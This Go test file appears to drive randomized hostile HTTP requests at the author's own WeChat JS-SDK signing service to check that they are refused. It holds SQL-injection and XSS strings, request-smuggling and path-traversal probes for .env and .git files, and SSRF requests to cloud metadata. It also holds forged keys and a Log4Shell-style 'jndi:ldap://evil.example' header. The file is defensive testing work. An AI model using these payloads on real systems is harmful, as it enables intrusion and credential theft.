package attack_test

import (
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"hash/crc32"
	"math/rand/v2"
	"net/url"
	"strings"
)

// shot is one hostile request, byte for byte.
type shot struct {
	kind string
	at   string // host:port
	raw  string
	// harmless says that a success gives nothing away: the request is for what
	// everybody may have. All others must be refused.
	harmless bool
	// cut says that the sender hangs up behind the last byte, because what it has
	// announced never comes. Others wait for their answer.
	cut bool
	// trust is for TLS, nil for a listener without; h2 is for HTTP/2.
	trust *tls.Config
	h2    bool
}

// arsenal makes shots.
type arsenal struct {
	pages, control, panel, ops string // host:port
	app                        string // an account that is served
	page                       string // one of its pages
	strong                     string // a key that may do everything
	weak                       string // a key that may only sign, for another account
	revoked                    string
	trust                      *tls.Config // nil = no listener speaks TLS
}

// kind is one way to attack.
type kind struct {
	name string
	make func(a *arsenal, r *rand.Rand) shot
}

var kinds = []kind{ // never changed
	{"foreign page", (*arsenal).foreignPage},
	{"foreign page, posted", (*arsenal).foreignBody},
	{"made-up account", (*arsenal).madeUpAccount},
	{"spelling of a path", (*arsenal).spelling},
	{"key", (*arsenal).badKey},
	{"browser with a good key", (*arsenal).browser},
	{"drop-in", (*arsenal).dropIn},
	{"relay", (*arsenal).relay},
	{"panel without a session", (*arsenal).stranger},
	{"panel from another site", (*arsenal).crossSite},
	{"sign-in", (*arsenal).signIn},
	{"report", (*arsenal).report},
	{"broken HTTP", (*arsenal).broken},
	{"header", (*arsenal).header},
	{"ops", (*arsenal).operators},
}

// shot is the n-th of a seed.
func (a *arsenal) shot(seed, n uint64) shot {
	r := rand.New(rand.NewPCG(seed, n))
	k := kinds[n%uint64(len(kinds))]
	s := k.make(a, r)
	s.kind = k.name
	if a.trust != nil && s.at != a.ops {
		s.trust = a.trust
		s.h2 = !s.cut && n/uint64(len(kinds))%2 == 1 // each kind in both ways
	}
	return s
}

func pick[T any](r *rand.Rand, from ...T) T { return from[r.IntN(len(from))] }

// request writes a request as a client does that keeps to the rules.
func request(at, method, target, body string, headers ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n", method, target, at)
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	if body != "" || method == "POST" {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	}
	return b.String() + "\r\n" + body
}

// from claims an address, which the trusted proxy of the tests passes on: limits
// per address do not end the attack at once.
func from(r *rand.Rand) string {
	v4 := fmt.Sprintf("%d.%d.%d.%d", 1+r.IntN(223), r.IntN(256), r.IntN(256), r.IntN(256))
	v6 := fmt.Sprintf("2001:%x:%x:%x::%x", r.IntN(1<<16), r.IntN(1<<16), r.IntN(1<<16), r.IntN(1<<16))
	return "X-Forwarded-For: " + pick(r, v4, v6, v6, "garbage, "+v4, "127.0.0.1", "::1", "127.0.0.1, 127.0.0.1", "%00", v6+"%eth0",
		strings.Repeat("9", 300))
}

func noise(r *rand.Rand, most int) string {
	b := make([]byte, r.IntN(most+1))
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	return string(b)
}

func word(r *rand.Rand, length int) string {
	const letters = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
	b := make([]byte, length)
	for i := range b {
		b[i] = letters[r.IntN(len(letters))]
	}
	return string(b)
}

// evilPage is a page that is not the account's, most of them near one that is.
func (a *arsenal) evilPage(r *rand.Rand) string {
	return pick(r,
		"https://evil.example/", "https://h5.example.com.evil.example/", "https://evil.example/https://h5.example.com/",
		"https://evilh5.example.com/",
		"https://h5.example.com@evil.example/", "https://evil.example#@h5.example.com/", "https://evil.example?h5.example.com",
		"https://h5.example.com:444/", "http://h5.example.com/", "https://x.h5.example.com/", "https://example.com/", "https://h5.example.co/",
		`https://h5.example.com\@evil.example/`, `https:\\h5.example.com/`, "https:/h5.example.com/", "https:h5.example.com", "//h5.example.com/",
		"javascript:alert(1)//https://h5.example.com/", "data:text/html,https://h5.example.com/", "ftp://h5.example.com/", "h5.example.com",
		"https://h5。example。com/", "https://ｈ5.example.com/", "https://h5.ex\u00adample.com/", "https://h5.example.com\u0000/",
		"https://h5.example.com\t/",
		" https://h5.example.com/", "https://h5.example.com%2F@evil.example/", "https://h5.example.com%00.evil.example/",
		"https://[::ffff:127.0.0.1]/",
		"https://user:pass@h5.example.com/", "https://2130706433/", "https://0x7f.1/", "https://h5.example.com/"+strings.Repeat("a", 2100),
		"https://"+noise(r, 40)+"/", "https://h5.example.com"+noise(r, 3)+".evil.example/", noise(r, 200), "https%3A%2F%2Fh5.example.com%2F", "",
		"https://h5.example.com:"+noise(r, 6)+"x/", "https://h5.example.com./../../../@evil.example", "https://h5.example.com.."+"/",
	)
}

func (a *arsenal) foreignPage(r *rand.Rand) shot {
	target := "/jssdk/config?url=" + url.QueryEscape(a.evilPage(r)) + pick(r, "", "&app_id="+a.app, "&profile="+url.QueryEscape(noise(r,
		20)), "&kind=agent_config", "&url="+url.QueryEscape(a.page), "&%75rl=x", "&secret=x")
	return shot{at: a.pages, raw: request(a.pages, "GET", target, "", from(r), "Origin: https://evil.example")}
}

func (a *arsenal) foreignBody(r *rand.Rand) shot {
	evil := fmt.Sprintf("%q", a.evilPage(r))
	body := pick(r,
		`{"url":`+evil+`,"app_id":"`+a.app+`"}`, `{"url":`+evil+`}`, `{"url":"`+a.page+`","url":`+evil+`}`, `{"URL":`+evil+`}`,
		`{"url":"`+a.page+`"}{}`, `{"url":"`+a.page+`","admin":true}`, `{"url":["`+a.page+`"]}`, `{"url":{"$ne":""}}`, `{"url":1}`, `[]`,
		`null`, `{`, `"x"`,
		strings.Repeat("[", 4000), strings.Repeat(`{"url":`, 1000), `{"url":"`+a.page+`","profile":"`+strings.Repeat("p", 9000)+`"}`,
		noise(r, 300), "\xef\xbb\xbf{}",
		`{"url":"`+a.page+`","app_id":"`+a.app+`' OR '1'='1"}`,
	)
	return shot{at: a.pages, raw: request(a.pages, "POST", "/jssdk/config", body, from(r), "Content-Type: "+pick(r, "application/json",
		"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"))}
}

func (a *arsenal) madeUpAccount(r *rand.Rand) shot {
	app := pick(r, "wx"+word(r, 16), strings.ToUpper(a.app), a.app+"%20", a.app+"%00", a.app+"'--", "..%2F"+a.app, "*", "%25", noiseEscaped(r))
	return shot{at: a.pages, raw: request(a.pages, pick(r, "GET", "POST"), "/jssdk/config?app_id="+app+"&url="+url.QueryEscape(a.page),
		"", from(r))}
}

func noiseEscaped(r *rand.Rand) string { return "x" + url.QueryEscape(noise(r, 40)) }

// closed are addresses that a stranger must not get anything from, wherever they
// are asked for.
var closed = []string{ // never changed
	"/admin/accounts/x", "/admin/history", "/admin/history.csv", "/admin/people", "/admin/audit", "/admin/new-account",
	"/v1/accounts/x/access_token",
	"/v1/accounts/x/tickets/jsapi", "/cgi-bin/token?grant_type=client_credential&appid=x&secret=y",
	"/cgi-bin/ticket/getticket?type=jsapi&access_token=x",
}

// spelling asks for a closed address in a way that a proxy's rule may not see.
func (a *arsenal) spelling(r *rand.Rand) shot {
	path := pick(r, append(closed, "/debug/pprof/", "/metrics", "/_sim/truth", "/.env", "/.git/config", "/wxsign.db", "/wxsign.key",
		"/config.toml")...)
	path = strings.ReplaceAll(path, "/x/", "/"+a.app+"/")
	path, query, _ := strings.Cut(path, "?")
	first := path[1:2]
	path = pick(r,
		path, strings.Replace(path, "/", "%2F", 1+r.IntN(3)), "/"+path, "/."+path, "/jssdk/.."+path, "/jssdk/%2e%2e"+path,
		"/jssdk/..;"+path, "/%2e"+path,
		"/"+fmt.Sprintf("%%%02x", first[0])+path[2:], strings.ToUpper(path), path+"/", path+"//", path+"%00", path+";x=y", path+"%20",
		path+"?", path+"#x",
		strings.ReplaceAll(path, "/", "\\"), strings.ReplaceAll(path, "/", "%5C"), "/static"+path, "/%252e%252e"+path, "/"+noiseEscaped(r)+path,
		"http://"+pick(r, "evil.example", "127.0.0.1", "localhost")+path, "/admin/static/../.."+path, "/demo/static/..%2f..%2f"+path,
		"/demo/examples/../../"+path,
	)
	if query != "" && !strings.ContainsAny(path, "?#") {
		path += "?" + query
	}
	at := pick(r, a.pages, a.control, a.panel)
	headers := []string{from(r)}
	if r.IntN(3) == 0 {
		headers = append(headers, pick(r, "X-Original-URL: ", "X-Rewrite-URL: ", "X-HTTP-Method-Override: GET ", "X-Forwarded-Prefix: ",
			"X-Forwarded-Host: ")+"/admin/people")
	}
	return shot{at: at, raw: request(at, pick(r, "GET", "GET", "POST", "PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "PROPFIND"), path,
		"", headers...)}
}

// forged is a key with a right checksum that nobody was given.
func forged(r *rand.Rand) string {
	const digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
	key := "wxs_" + word(r, 32)
	sum, tail := crc32.ChecksumIEEE([]byte(key)), make([]byte, 6)
	for i := range tail {
		tail[len(tail)-1-i] = digits[sum%62]
		sum /= 62
	}
	return key + string(tail)
}

// badPassword is what stands where a key belongs.
func (a *arsenal) badPassword(r *rand.Rand) string {
	cut := 1 + r.IntN(len(a.strong)-1)
	return pick(r, forged(r), forged(r), a.weak, a.weak, a.revoked, a.strong[:cut], a.strong+"x", strings.ToLower(a.strong),
		"wxs_"+word(r, 38), word(r, 64),
		"' OR 1=1 --", "", "null", "undefined", "[object Object]", "wxs_", strings.Repeat("wxs_", 500))
}

func (a *arsenal) badKey(r *rand.Rand) shot {
	account := "/v1/accounts/" + pick(r, a.app, a.app, "wx"+word(r, 16), "", "*", "%2A", a.app+"%2Ftickets%2Fjsapi")
	target := account + pick(r, "/access_token", "/tickets/jsapi", "/tickets/wx_card", "/tickets/access_token", "/access_token/report",
		"/tickets/jsapi/report", "/sign", "/secret", "") +
		pick(r, "", "?wait=60s&after=0", "?wait=-1s", "?after=999999999999999999999", "?key="+url.QueryEscape(a.badPassword(r)))
	key := a.badPassword(r)
	header := pick(r, "Authorization: Bearer "+key, "Authorization: Bearer "+key, "Authorization: bearer  "+key,
		"Authorization: Basic "+base64.StdEncoding.EncodeToString([]byte("x:"+key)),
		"Authorization: "+key, "X-Api-Key: "+key, "Cookie: key="+key, "Authorization: Bearer "+a.strong+"\r\nAuthorization: Bearer "+key,
		"Authorization: Bearer")
	body := pick(r, "", `{"value":"x","errcode":40001}`, `{"kind":"jsapi","url":"`+a.page+`"}`, `{"sha256":"`+strings.Repeat("0",
		64)+`"}`, noise(r, 100))
	return shot{at: a.control, raw: request(a.control, pick(r, "GET", "POST", "PUT", "DELETE", "OPTIONS"), target, body, from(r), header)}
}

// browser has a key that may do everything, and is a browser.
func (a *arsenal) browser(r *rand.Rand) shot {
	mark := pick(r, "Origin: https://h5.example.com", "Origin: null", "Sec-Fetch-Site: same-origin", "Sec-Fetch-Site: none",
		"origin: http://"+a.control)
	target := pick(r, "/v1/accounts/"+a.app+"/access_token", "/v1/accounts/"+a.app+"/tickets/jsapi",
		"/cgi-bin/token?grant_type=client_credential&appid="+a.app+"&secret="+a.strong,
		"/cgi-bin/ticket/getticket?type=jsapi&access_token="+a.strong,
		"/cgi-bin/user/get?access_token="+a.strong, "/sns/jscode2session?appid="+a.app+"&secret="+a.strong+"&js_code=x")
	return shot{at: a.control, raw: request(a.control, pick(r, "GET", "POST"), target, "", mark, "Authorization: Bearer "+a.strong)}
}

func (a *arsenal) dropIn(r *rand.Rand) shot {
	key, app := url.QueryEscape(a.badPassword(r)), pick(r, a.app, a.app, "wx"+word(r, 16), "")
	if r.IntN(3) == 0 {
		body := pick(r, fmt.Sprintf(`{"grant_type":"client_credential","appid":%q,"secret":%q,"force_refresh":true}`, app,
			a.badPassword(r)), "{", "[]", noise(r, 100), strings.Repeat("[", 9000))
		return shot{at: a.control, raw: request(a.control, "POST", "/cgi-bin/stable_token", body, from(r))}
	}
	target := pick(r, "/cgi-bin/token?grant_type=client_credential&appid="+app+"&secret="+key, "/cgi-bin/token?appid="+app+"&secret="+key,
		"/cgi-bin/ticket/getticket?type=jsapi&access_token="+key, "/cgi-bin/ticket/getticket?type=access_token&access_token="+key,
		"/cgi-bin/gettoken?corpid="+app+"&corpsecret="+key, "/cgi-bin/get_jsapi_ticket?access_token="+key,
		"/cgi-bin/ticket/get?type=agent_config&access_token="+key)
	return shot{at: a.control, raw: request(a.control, pick(r, "GET", "GET", "POST", "DELETE"), target, "", from(r))}
}

func (a *arsenal) relay(r *rand.Rand) shot {
	key := url.QueryEscape(a.badPassword(r))
	path := pick(r, "/cgi-bin/menu/create", "/cgi-bin/clear_quota", "/cgi-bin/clear_quota/v2", "/wxa/getwxacode",
		"/cgi-bin/../sns/userinfo", "//evil.example/", "/@evil.example/",
		"/cgi-bin/token/", "/CGI-BIN/TOKEN", "/cgi-bin/%74oken", "/"+noiseEscaped(r), "/cgi-bin/ticket/getticket/", "/admin/people",
		"/_sim/truth", "http://169.254.169.254/latest/meta-data/")
	target := pick(r, path+"?access_token="+key, path+"?access_token="+key+"&access_token="+a.weak, path+"?a=1&acc%65ss_token="+key,
		path+"?access_token=",
		"/sns/jscode2session?appid="+a.app+"&secret="+key+"&js_code=x",
		"/sns/oauth2/access_token?appid="+a.app+"&secret="+key+"&code=x&grant_type=authorization_code", "/sns/"+noiseEscaped(r))
	return shot{at: a.control, raw: request(a.control, pick(r, "GET", "POST", "PUT", "TRACE"), target, noise(r, 100), from(r),
		"X-Wxsign-App-Id: "+pick(r, a.app, "*", "x"))}
}

// doors of the panel that take nothing without a session.
func (a *arsenal) door(r *rand.Rand) string {
	account := "/admin/accounts/" + pick(r, a.app, "x", noiseEscaped(r))
	return pick(r, "/admin/", "/admin/history", "/admin/history.csv", "/admin/people", "/admin/people/admin", "/admin/audit",
		"/admin/sessions", "/admin/password", "/admin/sign-out",
		"/admin/new-account", "/admin/checker", "/admin/qa", "/admin/qa/1", account, account+"/edit", account+"/secret",
		account+"/secret/switch", account+"/refresh", account+"/reveal",
		account+"/enable", account+"/disable", account+"/delete", account+"/files", account+"/files/remove", account+"/timeline")
}

func (a *arsenal) form(r *rand.Rand) string {
	return pick(r, "kind=access_token&reason=x", "rev=1&typed="+a.app, "do=password", "do=role&role=admin", "name=eve&role=admin",
		"secret="+word(r, 32), "chosen=aaaaaaaaaaaaaaaa&repeated=aaaaaaaaaaaaaaaa", url.QueryEscape(noise(r, 200)))
}

func (a *arsenal) stranger(r *rand.Rand) shot {
	cookie := pick(r, word(r, 43), word(r, 43), "", "' OR 1=1", strings.Repeat("a", 3000),
		base64.RawURLEncoding.EncodeToString([]byte(noise(r, 32))), "admin")
	name := pick(r, "wxsign", "__Host-wxsign", "__Secure-wxsign", "session", "WXSIGN")
	headers := []string{from(r), "Cookie: " + name + "=" + cookie, "Content-Type: application/x-www-form-urlencoded"}
	if r.IntN(4) == 0 {
		headers = append(headers, pick(r, "X-Forwarded-Proto: https", "X-Forwarded-User: admin", "Remote-User: admin", "HX-Request: false",
			"Authorization: Basic YWRtaW46YWRtaW4="))
	}
	return shot{at: a.panel, raw: request(a.panel, pick(r, "GET", "POST", "POST", "PUT", "DELETE"), a.door(r), a.form(r), headers...)}
}

func (a *arsenal) crossSite(r *rand.Rand) shot {
	mark := pick(r, "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: same-site", "Origin: https://evil.example", "Origin: null",
		"Origin: http://evil.example:80\r\nSec-Fetch-Site: cross-site")
	return shot{at: a.panel, raw: request(a.panel, "POST", pick(r, a.door(r), "/admin/sign-in"), a.form(r), from(r), mark,
		"Content-Type: "+pick(r, "application/x-www-form-urlencoded", "text/plain"))}
}

func (a *arsenal) signIn(r *rand.Rand) shot {
	name := pick(r, "admin", "admin", "root", "admin' --", "admin\x00", strings.Repeat("a", 3000), noise(r, 60))
	password := pick(r, "admin", "password", "123456", "", strings.Repeat("p", 2000), "' OR '1'='1", noise(r, 128))
	body := url.Values{"name": {name}, "password": {password}, "next": {pick(r, "//evil.example", "https://evil.example/admin/",
		"/admin/\r\nSet-Cookie: x=y", "javascript:alert(1)", "")}}.Encode()
	if r.IntN(2) == 0 { // most of all sign-ins cost a hash; these are over before
		body = pick(r, strings.Repeat("a=1&", 3000), "name="+strings.Repeat("%", 200), body+"&x="+strings.Repeat("y", 5000))
	}
	return shot{at: a.panel, raw: request(a.panel, "POST", "/admin/sign-in", body, from(r), "Content-Type: application/x-www-form-urlencoded")}
}

func (a *arsenal) report(r *rand.Rand) shot {
	body := fmt.Sprintf(`{"nonce":%q,"app_id":%q,"profile":"default","page_url":%q,"client":"ios","verdict":"ok","detail":%q}`,
		pick(r, "", word(r, 40), base64.RawURLEncoding.EncodeToString([]byte(noise(r, 60)))), a.app, pick(r, a.page, a.evilPage(r)), pick(r,
			"<script>alert(1)</script>", strings.Repeat("d", 5000), noise(r, 60)))
	origin := "Origin: " + pick(r, "https://evil.example", "null", "https://h5.example.com.evil.example", "http://h5.example.com",
		"https://h5.example.com:444")
	return shot{at: a.pages, raw: request(a.pages, "POST", pick(r, "/demo/report", "/jssdk/report"), body, from(r), origin)}
}

// broken is what no client would send. It asks for what is closed, so whatever
// comes of it, no answer may be a success.
func (a *arsenal) broken(r *rand.Rand) shot {
	at := pick(r, a.pages, a.control, a.panel, a.ops)
	host, inner := "Host: "+at+"\r\n", "GET /v1/accounts/"+a.app+"/access_token HTTP/1.1\r\nHost: x\r\n\r\n"
	line := "GET /admin/people HTTP/1.1\r\n"
	raw := pick(r,
		"POST /admin/people HTTP/1.1\r\n"+host+"Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
		"POST /admin/people HTTP/1.1\r\n"+host+"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+inner,
		"POST /admin/people HTTP/1.1\r\n"+host+"Transfer-Encoding: chunked\r\n\r\nzz\r\n",
		"POST /admin/people HTTP/1.1\r\n"+host+"Transfer-Encoding: chunked, identity\r\n\r\n",
		"POST /admin/people HTTP/1.1\r\n"+host+"Transfer-Encoding: xchunked\r\n\r\n",
		"POST /admin/people HTTP/1.1\r\n"+host+"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
		"POST /admin/people HTTP/1.1\r\n"+host+"Content-Length: -1\r\n\r\n",
		"POST /admin/people HTTP/1.1\r\n"+host+"Content-Length: 99999999999999999999\r\n\r\n",
		"POST /admin/people HTTP/1.1\r\n"+host+"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n", line+"\r\n", line+host+host+"\r\n",
		line+"Host: a b\r\n\r\n", line+host+" folded: x\r\n\r\n", line+host+"X: a\r\n\tb\r\n\r\n",
		line+host+"X\x00Y: z\r\n\r\n", line+host+"X: \x00\r\n\r\n", line+host+"X: a\rb\r\n\r\n", line+host+": x\r\n\r\n",
		line+host+"no colon\r\n\r\n", "GET /admin/people\r\n\r\n", "GET /admin/people HTTP/0.9\r\n\r\n",
		"GET /admin/people HTTP/2.0\r\n"+host+"\r\n",
		"GET /admin/people HTTP/9.9\r\n"+host+"\r\n", "GET  /admin/people  HTTP/1.1\r\n"+host+"\r\n",
		"GET /admin people HTTP/1.1\r\n"+host+"\r\n", "\r\n\r\n\r\n"+line+host+"\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
		"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"+noise(r, 200),
		"CONNECT 169.254.169.254:80 HTTP/1.1\r\n"+host+"\r\n", "CONNECT / HTTP/1.1\r\n"+host+"\r\n",
		"TRACE /admin/people HTTP/1.1\r\n"+host+"Cookie: wxsign=x\r\n\r\n", "GET * HTTP/1.1\r\n"+host+"\r\n",
		"GET ? HTTP/1.1\r\n"+host+"\r\n", "GET admin/people HTTP/1.1\r\n"+host+"\r\n",
		"G\x00T /admin/people HTTP/1.1\r\n"+host+"\r\n", strings.Repeat("A", 9000)+" /admin/people HTTP/1.1\r\n"+host+"\r\n",
		"GET /admin/"+strings.Repeat("a", 30000)+" HTTP/1.1\r\n"+host+"\r\n", line+host+"X: "+strings.Repeat("b", 30000)+"\r\n\r\n",
		line+host+strings.Repeat("X: y\r\n", 6000)+"\r\n",
		"GET /%zz HTTP/1.1\r\n"+host+"\r\n", "GET /admin/people?%zz=%zz&a=%00 HTTP/1.1\r\n"+host+"\r\n",
		"GET http://[::1/admin/people HTTP/1.1\r\n"+host+"\r\n", noise(r, 400)+"\r\n\r\n",
		"GET /admin/people HTTP/1.1\r\n"+host+"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
		"GET /admin/people HTTP/1.1\r\n"+host+"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\n\r\n",
		"POST /admin/people HTTP/1.1\r\n"+host+"Expect: 100-continue\r\nContent-Length: 9\r\nConnection: close\r\n\r\n",
		"POST /admin/people HTTP/1.1\r\n"+host+"Expect: nothing\r\nContent-Length: 0\r\n\r\n",
	)
	return shot{at: at, raw: raw, cut: true}
}

// header bends one header of a request that everybody may make.
func (a *arsenal) header(r *rand.Rand) shot {
	at, target := a.pages, pick(r, "/healthz", "/readyz", "/jssdk/wxsign.js", "/jssdk/wxsign.mjs", "/demo/share",
		"/jssdk/config?url="+url.QueryEscape(a.page))
	clean := strings.NewReplacer("\r", "", "\n", "").Replace(noise(r, 60))
	bent := pick(r, "Range: bytes=0-,"+strings.Repeat("0-,", 1000), "Range: bytes=-1", "Accept-Language: "+strings.Repeat("zh-CN,", 900),
		"Accept-Language: "+clean, "If-None-Match: "+strings.Repeat(`"a",`, 1500), "If-Modified-Since: "+clean,
		"Accept-Encoding: "+strings.Repeat("gzip,", 900), "X-Request-Id: \"><script>alert(1)</script>", "X-Request-Id: "+strings.Repeat("a",
			4000), "User-Agent: ${jndi:ldap://evil.example/a}", "Referer: "+clean, "Cookie: "+clean, "Content-Type: "+clean,
		"X-Forwarded-Host: evil.example", "X-Forwarded-Proto: javascript", "Forwarded: for=127.0.0.1", "Via: "+clean,
		"Origin: https://evil.example", "Origin: "+clean, "Te: trailers", "Content-Encoding: gzip")
	return shot{at: at, harmless: true, raw: request(at, pick(r, "GET", "HEAD", "OPTIONS", "GET", "POST"), target, "", from(r), bent)}
}

// operators' listener has no password; what it has not is refused.
func (a *arsenal) operators(r *rand.Rand) shot {
	target := pick(r, closed...)
	if r.IntN(2) == 0 {
		return shot{at: a.ops, raw: request(a.ops, pick(r, "GET", "POST"), target, "", from(r))}
	}
	return shot{at: a.ops, harmless: true, raw: request(a.ops, pick(r, "GET", "HEAD", "POST", "TRACE"), pick(r, "/metrics", "/readyz",
		"/healthz", "/debug/pprof/", "/debug/pprof/cmdline", "/metrics?x="+noiseEscaped(r)), "", "Host: evil.example")}
}
